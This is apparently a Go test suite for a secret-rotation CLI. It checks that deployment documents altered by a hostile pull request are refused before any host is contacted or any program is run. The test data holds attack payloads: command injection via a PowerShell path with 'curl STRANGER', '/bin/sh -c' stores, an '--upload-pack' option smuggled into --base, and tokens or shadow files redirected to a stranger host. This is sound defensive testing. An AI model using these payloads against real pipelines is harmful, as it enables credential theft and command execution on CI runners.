package labcli_test

import (
	"encoding/base64"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/go-git/go-git/v5/plumbing"

	"meshrotate/specs/gittest"
)

// What a runner has, and no document may send away.
const (
	cloudKey   = "canary-of-the-runners-cloud"
	shadowFile = "canary-of-the-runners-disk"
	liveKey    = "canary-of-the-live-relay-key"
	bankKey    = "canary-of-another-team"
)

const agreedDocument = `apiVersion: meshrotate/v1
kind: Deployment
name: contoso
hosts: {admin: im-admin.contoso.example, relays: [relay-1.contoso.example]}
connect:
  winrm: {auth: ntlm, transport: http, user: 'CONTOSO\rotator', password: {env: IM_PASSWORD}}
  hosts:
    im-admin.contoso.example: {address: "FRIEND"}
    relay-1.contoso.example: {address: "FRIEND"}
  adminApi: {url: "http://FRIEND"}
  stores:
    corp: {vault: {url: "http://FRIEND", token: {env: IM_VAULT}}}
    op: {exec: {program: TOOL, args: [read], env: [IM_OP]}}
secrets:
  relayKey: {version: 7, from: generated}
policy: {patience: 1s, hostTimeout: 10s}
state: {dir: STATE}
`

// attack is what a hostile request changes in the agreed document.
type attack struct {
	name     string
	from, to string
	more     []string // pairs that are changed as well
	file     string   // with this text beside the document: hostile.conf
	never    bool     // refused in every document, whoever is believed
	says     string

	// Where the document is believed, plan sends the stranger hears (anything, when empty) or runs the agreed program with runs; pairs that are
	// changed then as well have it ask for what the attack brings: nobody asks a store for a value before the hosts answer.
	hears, runs string
	believed    []string
	silent      string // why that cannot be shown here
}

const relayAddress = `    relay-1.contoso.example: {address: "FRIEND"}`

var attacks = []attack{
	{name: "kept key as a token", from: `adminApi: {url: "http://FRIEND"}`,
		to: `adminApi: {url: "http://STRANGER", auth: bearer, token: {file: STATE/values/relaykey/7.age}}`, never: true, says: "connect.adminApi.token"},
	{name: "sealed file as a token", from: `adminApi: {url: "http://FRIEND"}`,
		to: `adminApi: {url: "http://STRANGER", auth: bearer, token: {file: stolen.age}}`, never: true, says: "connect.adminApi.token"},
	{name: "the age identity as a token", from: `adminApi: {url: "http://FRIEND"}`,
		to: `adminApi: {url: "http://STRANGER", auth: bearer, token: {env: MESHROTATE_AGE_IDENTITY}}`, never: true, says: "the age identity is never a credential's source"},
	{name: "the age identity of a file as a token", from: `adminApi: {url: "http://FRIEND"}`, more: []string{"state: {dir: STATE}", "state: {dir: STATE, seal: {identity: {file: SHADOW}}}"},
		to: `adminApi: {url: "http://STRANGER", auth: bearer, token: {file: SHADOW}}`, never: true, says: "the age identity is never a credential's source"},
	{name: "quote in powershell", from: `transport: http,`, to: `transport: http, powershell: 'cmd.exe" /c curl STRANGER & rem "',`, never: true, says: "connect.winrm.powershell"},
	{name: "powershell of a share", from: `transport: http,`, to: `transport: http, powershell: '\\STRANGER\s\powershell.exe',`, never: true, says: "connect.winrm.powershell"},
	{name: "another powershell", from: `transport: http,`, to: `transport: http, powershell: 'C:\stage\powershell.exe',`, says: "connect.winrm.powershell is new, not contacted", silent: "a host that answers would be told to run it; these do not answer"},
	{name: "API elsewhere", from: `url: "http://FRIEND"`, to: `url: "http://STRANGER"`, says: "connect.adminApi.url"},
	{name: "cloud keys to an API", from: `adminApi: {url: "http://FRIEND"}`,
		to: `adminApi: {url: "http://STRANGER", auth: bearer, token: {env: CLOUD_KEY}}`, says: "env CLOUD_KEY", hears: "Bearer " + cloudKey},
	{name: "cloud keys to a host", from: `{address: "FRIEND"}`,
		to: `{address: "STRANGER", auth: basic, user: u, password: {env: CLOUD_KEY}}`, says: "env CLOUD_KEY", hears: base64.StdEncoding.EncodeToString([]byte("u:" + cloudKey))},
	{name: "file of the runner to a host", from: relayAddress,
		to: `    relay-1.contoso.example: {address: "STRANGER", auth: basic, user: u, password: {file: SHADOW}}`, says: "file SHADOW", hears: base64.StdEncoding.EncodeToString([]byte("u:" + shadowFile))},
	{name: "another relay", from: `relays: [relay-1.contoso.example]`, to: `relays: [relay-1.contoso.example, localhost]`, says: "hosts.relays is new, not contacted: localhost", believed: []string{relayAddress, relayAddress + "\n    localhost: {address: \"STRANGER\"}"}},
	{name: "another address of a relay", from: relayAddress, to: `    relay-1.contoso.example: {address: "STRANGER"}`, says: `connect.hosts["relay-1.contoso.example"].address is new, not contacted: STRANGER`, hears: "/wsman"},
	{name: "token endpoint elsewhere", from: `adminApi: {url: "http://FRIEND"}`,
		to: `adminApi: {url: "http://FRIEND", auth: oauth2, oauth2: {tokenUrl: "http://STRANGER", clientId: x, clientSecret: {env: CLOUD_KEY}}}`, says: "connect.adminApi.oauth2.tokenUrl", hears: base64.StdEncoding.EncodeToString([]byte("x:" + cloudKey))},
	{name: "SQL Server elsewhere", from: "secrets:\n",
		to:   "  sql: {server: sql01, addresses: {sql01: \"STRANGER\"}, user: x, password: {env: CLOUD_KEY}}\nsecrets:\n  sqlLogin: {mode: single, login: im, version: 1, from: generated}\n",
		says: "connect.sql.server is new, not contacted: sql01"},
	{name: "state elsewhere", from: "state: {dir: STATE}",
		to: "state: {sql: {server: sql01, addresses: {sql01: \"STRANGER\"}, user: x, password: {env: CLOUD_KEY}}}", says: "state.sql.server"},
	{name: "state on a branch elsewhere", from: "state: {dir: STATE}",
		to: "state: {git: {repo: \"http://STRANGER/state.git\", token: {env: CLOUD_KEY}}, dir: STATE}", says: "state.git.repo", hears: "/state.git"},
	{name: "KDC of the request", from: `winrm: {auth: ntlm, transport: http,`, to: `winrm: {auth: kerberos, kerberos: {config: hostile.conf},`,
		file: "[libdefaults]\ndefault_realm = X\n[realms]\nX = {\n kdc = STRANGER\n}\n", says: "connect.winrm.kerberos.config"},
	{name: "value of the runner for the hosts", from: "from: generated", to: "from: {env: CLOUD_KEY}", says: "secrets.relayKey.from", silent: "it is sent to hosts that answer; these do not"},
}

const agreedVault, agreedTool = `{vault: {url: "http://FRIEND", token: {env: IM_VAULT}}}`, `args: [read], env: [IM_OP]`

// storeAttacks are those on stores: a new one, another one under an agreed name, another way in, another place, another program.
var storeAttacks = []attack{
	{name: "another store", from: "corp: {", to: `corpp: {vault: {url: "http://STRANGER", token: {env: CLOUD_KEY}}}` + "\n    corp: {", says: "connect.stores.corpp.vault.url is new, not contacted: http://STRANGER", believed: []string{"{env: IM_PASSWORD}", "{store: corpp, path: a}"}, hears: "X-Vault-Token: " + cloudKey},
	{name: "values from another store", from: "from: generated", to: "from: {store: corpp, path: a}", more: []string{"corp: {", `corpp: {vault: {url: "http://STRANGER", token: {env: CLOUD_KEY}}}` + "\n    corp: {"},
		says: "secrets.relayKey.from is new, not in force: store corpp/a", believed: []string{"{env: IM_PASSWORD}", "{store: corpp, path: a}"}, hears: "X-Vault-Token: " + cloudKey},
	{name: "agreed store elsewhere", from: agreedVault, to: `{vault: {url: "http://STRANGER", token: {env: IM_VAULT}}}`, says: "connect.stores.corp.vault.url is new, not contacted: http://STRANGER", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: a}"}, hears: "X-Vault-Token: agreed"},
	{name: "agreed store of another kind", from: agreedVault, to: `{keyVault: {url: "https://STRANGER", entra: {tenant: t, clientId: c, secret: {env: CLOUD_KEY}, authority: "https://STRANGER"}}}`,
		says: "connect.stores.corp.keyVault.url is new, not contacted: https://STRANGER", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: a}"}},
	{name: "cloud keys to an agreed store", from: "{env: IM_VAULT}", to: "{env: CLOUD_KEY}", says: "connect.stores.corp.vault.token is new, not contacted: env CLOUD_KEY", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: a}"}, hears: "X-Vault-Token: " + cloudKey},
	{name: "file of the runner to an agreed store", from: "token: {env: IM_VAULT}", to: "kubernetes: {role: im, jwt: {file: SHADOW}}", says: "connect.stores.corp.vault.kubernetes.jwt is new, not contacted: file SHADOW", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: a}"}, hears: shadowFile},
	{name: "another mount", from: "token: {env: IM_VAULT}", to: "token: {env: IM_VAULT}, mount: finance", says: "connect.stores.corp.vault.mount is new, not contacted: finance (agreed: secret)", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: a}"}, hears: "/v1/finance/data/a"},
	{name: "another place in an agreed store", from: "from: generated", to: "from: {store: corp, path: finance/bank}", says: "secrets.relayKey.from is new, not in force: store corp/finance/bank", believed: []string{"{env: IM_PASSWORD}", "{store: corp, path: finance/bank}"}, hears: "/v1/secret/data/finance/bank"},
	{name: "a credential out of an agreed store", from: relayAddress, to: `    relay-1.contoso.example: {address: "STRANGER", auth: basic, user: u, password: {store: corp, path: finance/bank}}`,
		says: `connect.hosts["relay-1.contoso.example"].password is new, not contacted: store corp/finance/bank`, hears: base64.StdEncoding.EncodeToString([]byte("u:" + bankKey))},
	{name: "a kept value for everybody", from: "from: generated", to: "from: generated, keep: {store: corp, path: public/relay}", says: "secrets.relayKey.keep is new, not contacted: corp/public/relay", silent: "it is written there when hosts that answer are rotated; these do not"},
	{name: "a program of the request", from: "op: {", to: `sh: {exec: {program: /bin/sh, args: [-c]}}` + "\n    op: {", more: []string{"from: generated", "from: {store: sh, path: curl STRANGER}"}, says: "connect.stores.sh.exec.program is new, not contacted: /bin/sh", believed: []string{"{env: IM_PASSWORD}", "{store: sh, path: echo sh >RAN}"}, runs: "sh"},
	{name: "another program under an agreed name", from: "program: TOOL, args: [read]", to: "program: /bin/sh, args: [-c]", more: []string{"from: generated", "from: {store: op, path: curl STRANGER}"},
		says: "connect.stores.op.exec.program is new, not contacted: /bin/sh", believed: []string{"{env: IM_PASSWORD}", "{store: op, path: echo sh >RAN}"}, runs: "sh"},
	{name: "another argument of an agreed program", from: agreedTool, to: `args: [read, --debug], env: [IM_OP]`, more: []string{"from: generated", "from: {store: op, path: a}"}, says: "connect.stores.op.exec.args is new, not contacted: read, --debug", believed: []string{"{env: IM_PASSWORD}", "{store: op, path: a}"}, runs: "read --debug a,"},
	{name: "cloud keys to an agreed program", from: agreedTool, to: `args: [read], env: [IM_OP, CLOUD_KEY]`, more: []string{"from: generated", "from: {store: op, path: a}"}, says: "connect.stores.op.exec.env is new, not contacted: CLOUD_KEY", believed: []string{"{env: IM_PASSWORD}", "{store: op, path: a}"}, runs: "read a, " + cloudKey},
	{name: "another value of an agreed program", from: "from: generated", to: "from: {store: op, path: 'op://finance/bank'}", says: "secrets.relayKey.from is new, not in force: store op/op://finance/bank", believed: []string{"{env: IM_PASSWORD}", "{store: op, path: 'op://finance/bank'}"}, runs: "read op://finance/bank"},
	{name: "another file on a program's input", from: agreedTool, to: `args: [read], env: [IM_OP], stdin: true`, more: []string{"from: generated", "from: {store: op, path: SHADOW}"}, says: "connect.stores.op.exec.stdin is new, not contacted: true", believed: []string{"{env: IM_PASSWORD}", "{store: op, path: SHADOW}"}, runs: ", " + shadowFile},
}

// in is the agreed document with the attack in it.
func (a attack) in(t *testing.T) string { return a.and(t, nil) }

// and is the same with more pairs.
func (a attack) and(t *testing.T, more []string) string {
	t.Helper()
	text := agreedDocument
	for pair := range slices.Chunk(slices.Concat([]string{a.from, a.to}, a.more, more), 2) {
		if !strings.Contains(text, pair[0]) {
			t.Fatalf("%q is not in the document", pair[0])
		}
		text = strings.Replace(text, pair[0], pair[1], 1)
	}
	return text
}

// TestHostileRequest: nothing that a request brings is contacted, run or read before somebody else has agreed to it.
func TestHostileRequest(t *testing.T) {
	t.Parallel()
	for _, a := range append(attacks, storeAttacks...) {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			h := newHostile(t)
			h.request()
			if a.file != "" {
				h.commit("deployments/hostile.conf", a.file)
			}
			h.commit("deployments/contoso.yaml", a.in(t))
			file, revision := []string{"-f", "deployments/contoso.yaml"}, []string{"--repo", ".", "--ref", "request", "--path", "deployments/contoso.yaml"}
			if a.never {
				h.refuses(a.says, append([]string{"plan"}, file...)...)
			}
			for _, document := range [][]string{append(file, "--base", "main"), append(revision, "--base", "main"), revision} {
				h.refuses(a.says, append([]string{"plan"}, document...)...)
				h.refuses(a.says, append([]string{"plan", "-o", "markdown"}, document...)...)
				h.refuses(a.says, append([]string{"apply", "--yes"}, document...)...)
			}
			h.refuses(a.says, append([]string{"drift"}, revision...)...)
			for _, verb := range [][]string{{"status"}, {"history"}, {"values"}, {"values", "forget", "relaykey", "7"}, {"adopt", "relaykey"}, {"rotate", "--compromised", "relaykey", "why"}, {"unlock"}, {"unlock", "--marker"}} {
				h.quiet(append(verb, revision...)...)
				h.quiet(append(verb, append(file, "--base", "main")...)...)
			}
			h.clone(a)
			h.control(a)
		})
	}
}

// clone is what a runner has that checked out the request of a fork: main is the upstream's, as it was fetched.
func (h *hostile) clone(a attack) {
	h.t.Helper()
	main, err := h.repo.Reference("refs/heads/main", true)
	must(h.t, err)
	must(h.t, h.repo.Storer.SetReference(plumbing.NewHashReference("refs/remotes/origin/main", main.Hash())))
	must(h.t, h.repo.Storer.SetReference(plumbing.NewSymbolicReference("refs/remotes/origin/HEAD", "refs/remotes/origin/main")))
	request, err := h.repo.Reference("refs/heads/request", true)
	must(h.t, err)
	must(h.t, h.repo.Storer.SetReference(plumbing.NewHashReference("refs/heads/main", request.Hash()))) // the fork's own
	for _, verb := range [][]string{{"plan"}, {"apply", "--yes"}} {
		h.refuses(a.says, append(verb, "-f", "deployments/contoso.yaml", "--base", "refs/remotes/origin/main")...)
		h.refuses(a.says, append(verb, "--repo", ".", "--ref", "main", "--path", "deployments/contoso.yaml")...)
		h.refuses(a.says, append(verb, "-f", "deployments/contoso.yaml")...) // whoever checks it out has not agreed to it
	}
	h.commit("deployments/contoso.yaml", a.in(h.t)+"nonsense: 3\n")
	for _, verb := range []string{"plan", "status", "drift"} {
		h.quiet(verb, "-f", "deployments/contoso.yaml")
	}
}

// TestAgreedRequest: what is wanted comes from the request; hosts are contacted with what was agreed.
func TestAgreedRequest(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	h.request()
	h.commit("deployments/contoso.yaml", strings.NewReplacer("version: 7", "version: 8", `url: "http://FRIEND"`, `url: "http://STRANGER"`).Replace(agreedDocument))
	_, said := h.run("plan", "-f", "deployments/contoso.yaml", "--base", "main", "-o", "json")
	if h.stranger.heard.Load() > 0 || h.met.Load() == 0 {
		t.Errorf("the stranger was contacted %d times, the agreed hosts %d times:\n%s", h.stranger.heard.Load(), h.met.Load(), said)
	}
	code, checked := h.run("validate", "-f", "deployments/contoso.yaml", "--base", "main")
	if flat := strings.Join(strings.Fields(checked), " "); code != 0 || !strings.Contains(flat, "not in force") || !strings.Contains(flat, "new, not contacted") || !strings.Contains(flat, "[trust-not-agreed]") {
		t.Errorf("validate, exit code %d:\n%s", code, checked)
	}
	var plan struct {
		Trust   string
		Fleet   []struct{ Code, Severity, Text, Hint string }
		Changes []struct{ Secret struct{ Version string } }
	}
	if err := json.NewDecoder(strings.NewReader(said[strings.Index(said, "{\n"):])).Decode(&plan); err != nil {
		t.Fatalf("%v\n%s", err, said)
	}
	found := plan.Fleet[0]
	if !strings.Contains(plan.Trust, "main at ") || found.Code != "trust-not-agreed" || found.Severity != "error" || !strings.Contains(found.Hint, "main") {
		t.Errorf("%+v", plan)
	}
	if plan.Changes[0].Secret.Version != "8" {
		t.Errorf("the wanted version is %q", plan.Changes[0].Secret.Version)
	}
}

// TestBesideTheDocument: what a request can do to the tree, to names and to files around its document does not help it.
func TestBesideTheDocument(t *testing.T) {
	t.Parallel()
	file := []string{"-f", "deployments/contoso.yaml", "--base", "main"}
	plan := func(args ...string) []string { return append([]string{"plan"}, args...) }
	for _, c := range []struct {
		name, says string
		do         func(h *hostile)
		args       []string
	}{
		{"the document is a link", "is a symbolic link", func(h *hostile) {
			h.commit("other.yaml", hostileDocument)
			h.link("deployments/contoso.yaml", "../other.yaml")
		}, plan(file...)},
		{"its folder is a link", "is a symbolic link", func(h *hostile) {
			h.commit("others/contoso.yaml", hostileDocument)
			must(h.t, os.RemoveAll(filepath.Join(h.dir, "deployments")))
			h.link("deployments", "others")
		}, plan(file...)},
		{"another name", "there is no such file in this revision", func(h *hostile) { h.commit("deployments/renamed.yaml", hostileDocument) },
			plan("-f", "deployments/renamed.yaml", "--base", "main")},
		{"a tag that is called like the base", "this may be refs/tags/main or refs/heads/main", func(h *hostile) {
			h.commit("deployments/contoso.yaml", hostileDocument)
			head, err := h.repo.Head()
			must(h.t, err)
			_, err = h.repo.CreateTag("main", head.Hash(), nil)
			must(h.t, err)
		}, plan(file...)},
		{"a base that looks like an option", "this is no revision", func(*hostile) {}, plan("-f", "deployments/contoso.yaml", "--base=--upload-pack=touch x")},
		{"a base that is searched for", "there is no such branch, tag or full commit hash", func(h *hostile) { h.commit("deployments/contoso.yaml", hostileDocument) },
			plan("-f", "deployments/contoso.yaml", "--base", ":/commit")},
		{"a submodule", "lies in the submodule", inASubmodule, plan(file...)},
		{"a submodule, and no side is named", "lies in the submodule", inASubmodule, plan("-f", "deployments/contoso.yaml")},
		{"a value behind a link", "is a symbolic link", func(h *hostile) {
			h.agreeToAFile()
			h.link("deployments/value.age", h.words.Replace("SHADOW"))
			h.commit("deployments/contoso.yaml", strings.Replace(agreedDocument, "version: 7, from: generated", "version: 8, from: {file: value.age}", 1))
		}, plan(file...)},
		{"a value in the repository's own folder", "part of the repository's own folder", func(h *hostile) {
			h.agreeToAFile()
			h.commit("deployments/contoso.yaml", strings.Replace(agreedDocument, "version: 7, from: generated", "version: 8, from: {file: ../.GIT/config.age}", 1))
		}, plan(file...)},
		{"a value that another step of the runner has put there", "Git does not know it", func(h *hostile) {
			h.agreeToAFile()
			must(h.t, os.WriteFile(filepath.Join(h.dir, "deployments", "login.age"), []byte(cloudKey), 0o600))
			h.commit("deployments/contoso.yaml", strings.Replace(agreedDocument, "version: 7, from: generated", "version: 8, from: {file: login.age}", 1))
		}, plan(file...)},
		{"a value whose place a request has kept for it", "is not as Git knows it", func(h *hostile) {
			h.agreeToAFile()
			h.commit("deployments/login.age", "nothing yet")
			must(h.t, os.WriteFile(filepath.Join(h.dir, "deployments", "login.age"), []byte(cloudKey), 0o600))
			h.commit("deployments/contoso.yaml", strings.Replace(agreedDocument, "version: 7, from: generated", "version: 8, from: {file: login.age}", 1))
		}, plan(file...)},
		{"a document that Git makes another one of as it checks out", "Git has checked out another text", func(h *hostile) {
			h.commit(".gitattributes", "*.yaml ident\n")
			h.commit("deployments/contoso.yaml", agreedDocument+"# $Id$\n")
			must(h.t, os.Remove(filepath.Join(h.dir, "deployments", "contoso.yaml")))
			checkout := exec.Command(gittest.Program(h.t), "-c", "safe.directory=*", "checkout", "-f", "HEAD", "--", "deployments")
			checkout.Dir = h.dir
			if out, err := checkout.CombinedOutput(); err != nil {
				h.t.Fatalf("%v: %s", err, out)
			}
		}, plan(file...)},
		{"a repository that the request brings, with a base of its own", "a repository among the files of", func(h *hostile) {
			inner := newHostile(h.t)
			inner.commit("contoso.yaml", hostileDocument)
			head, err := inner.repo.Head()
			must(h.t, err)
			must(h.t, inner.repo.Storer.SetReference(plumbing.NewHashReference("refs/remotes/origin/main", head.Hash())))
			must(h.t, os.CopyFS(filepath.Join(h.dir, "deployments"), os.DirFS(filepath.Join(inner.dir, ".git"))))
		}, plan("--repo", "deployments", "--path", "contoso.yaml", "--base", "refs/remotes/origin/main")},
		{"an operator's file of the request", "lies in the repository", func(h *hostile) { h.commit("operator.yaml", operatorsFile) }, plan("-f", "deployments/contoso.yaml", "--operator", "operator.yaml")},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			h := newHostile(t)
			h.request()
			c.do(h)
			h.refuses(c.says, c.args...)
		})
	}
}

var hostileDocument = strings.Replace(agreedDocument, `url: "http://FRIEND"`, `url: "http://STRANGER"`, 1)

// TestAnEmptyName: a variable of a pipeline that is not set takes no protection away.
func TestAnEmptyName(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	h.request()
	h.commit("deployments/contoso.yaml", hostileDocument)
	for _, verb := range []string{"plan", "apply", "drift", "validate"} {
		for _, flag := range []string{"--base", "--operator"} {
			h.refuses(flag+" is empty", verb, "-f", "deployments/contoso.yaml", flag, "")
		}
	}
	h.env = append(h.env, "MESHROTATE_OPERATOR=")
	h.refuses("MESHROTATE_OPERATOR is set and empty", "plan", "-f", "deployments/contoso.yaml")
}

// TestOtherNamesOfACheckout: however the checkout is named, its files are the request's.
func TestOtherNamesOfACheckout(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	signed := filepath.Join(t.TempDir(), "operator.yaml")
	must(t, os.WriteFile(signed, []byte(h.words.Replace(operatorsFile)+"signers: ["+filepath.Join(h.dir, "signers")+"]\n"), 0o600))
	h.request()
	h.commit("operator.yaml", operatorsFile)
	h.commit("signers", "bad@example.org ssh-ed25519 AAAA")
	for _, repo := range []string{".", "deployments", ".git", h.dir, "file://" + h.dir} {
		revision := []string{"--repo", repo, "--ref", "request", "--path", "deployments/contoso.yaml"}
		h.refuses("lies in the repository", append([]string{"plan", "--operator", "operator.yaml"}, revision...)...)
		h.refuses("lies among the files of the request", append([]string{"plan", "--operator", signed}, revision...)...)
	}
	h.refuses("lies among the files of the request", "plan", "-f", "deployments/contoso.yaml", "--operator", signed)
}

// TestStateOfARequest: a state folder whose files are committed is not ours alone.
func TestStateOfARequest(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	document := strings.Replace(agreedDocument, "state: {dir: STATE}\n", "", 1)
	h.commit("deployments/contoso.yaml", document)
	h.request()
	h.commit("deployments/.meshrotate/salt", "of the request")
	h.refuses("files of it are committed", "plan", "-f", "deployments/contoso.yaml", "--base", "main")
	h.commit(".meshrotate/salt", "of the request")
	h.refuses("files of it are committed", "plan", "--repo", ".", "--ref", "main", "--path", "deployments/contoso.yaml")

	full := newHostile(t)
	full.commit("deployments/contoso.yaml", strings.Replace(agreedDocument, "dir: STATE", "dir: "+filepath.Join(full.dir, "state"), 1))
	full.request()
	full.commit("state/salt", "of the request")
	full.refuses("files of it are committed", "plan", "--repo", ".", "--ref", "request", "--base", "main", "--path", "deployments/contoso.yaml")
}

// TestStateRepositoryOfARequest: git runs the hooks of a repository that is pushed to, and a request can commit some into one that lies in the
// checkout. The checkout's own repository is none of its files.
func TestStateRepositoryOfARequest(t *testing.T) {
	t.Parallel()
	for _, repo := range []string{"../state.git", "file://DIR/state.git", "DIR/state.git", "file://localhost/DIR/state.git", "FILE://DIR/state.git", "file://DIR/st%61te.git",
		"../state", "DIR/state", "file://DIR/state", "DIR/state/"} {
		h := newHostile(t)
		h.commit("deployments/contoso.yaml", strings.Replace(agreedDocument, "dir: STATE", "git: {repo: "+strings.Replace(repo, "DIR", h.dir, 1)+"}", 1))
		h.request()
		h.commit("state.git/hooks/pre-receive", "#!/bin/sh")
		h.refuses("the repository of the state, ", "plan", "-f", "deployments/contoso.yaml", "--base", "main")
	}
}

const operatorsFile = `apiVersion: meshrotate/v1
kind: Operator
deployments: [contoso]
hosts: ["*.contoso.example", "FRIEND"]
urls: ["http://FRIEND"]
signIn: [ntlm, http, "5985", 'CONTOSO\rotator']
sources: {env: ["IM_*"]}
programs: [TOOL, read]
state: [STATE]
policy: {patience: 1s, hostTimeout: 10s}
`

// TestOperator: without a base an operator's file says what may be contacted, and with one what more.
func TestOperator(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	operator := filepath.Join(t.TempDir(), "operator.yaml")
	must(t, os.WriteFile(operator, []byte(h.words.Replace(operatorsFile)), 0o600))
	h.request()
	more := strings.Replace(agreedDocument, "[relay-1.contoso.example]", `["relay-[1..3].contoso.example"]`, 1)
	h.commit("deployments/contoso.yaml", more)

	if _, said := h.run("plan", "-f", "deployments/contoso.yaml", "--operator", operator); h.met.Load() == 0 || strings.Contains(said, "trust-") {
		t.Errorf("what the operator allows was contacted %d times:\n%s", h.met.Load(), said)
	}
	if _, said := h.run("plan", "-f", "deployments/contoso.yaml", "--base", "main", "--operator", operator); strings.Count(said, "[trust-") != 1 || !strings.Contains(said, "[trust-changed]") {
		t.Errorf("what the operator allows beside the base is not agreed to, or not named:\n%s", said)
	}
	h.env = append(h.env, "MESHROTATE_OPERATOR="+operator)
	for _, a := range append(attacks, storeAttacks...) {
		edited := a.in(t)
		if a.file != "" || edited == agreedDocument {
			continue
		}
		h.commit("deployments/contoso.yaml", edited)
		before := h.met.Load()
		h.refuses(a.says, "plan", "-f", "deployments/contoso.yaml")
		h.refuses(a.says, "apply", "--yes", "-f", "deployments/contoso.yaml")
		h.refuses("", "history", "-f", "deployments/contoso.yaml")
		if n := h.met.Load() - before; n > 0 && a.name != "value of the runner for the hosts" {
			t.Errorf("%s: with half of a document the hosts were contacted %d times", a.name, n)
		}
	}
}

// inASubmodule puts the document of an attack into one.
func inASubmodule(h *hostile) {
	inner := newHostile(h.t)
	inner.commit("contoso.yaml", hostileDocument)
	must(h.t, os.RemoveAll(filepath.Join(h.dir, "deployments")))
	must(h.t, os.MkdirAll(filepath.Join(h.dir, ".git", "modules"), 0o700))
	must(h.t, os.Rename(filepath.Join(inner.dir, ".git"), filepath.Join(h.dir, ".git", "modules", "deployments")))
	must(h.t, os.Rename(inner.dir, filepath.Join(h.dir, "deployments")))
	must(h.t, os.WriteFile(filepath.Join(h.dir, "deployments", ".git"), []byte("gitdir: ../.git/modules/deployments\n"), 0o600))
}
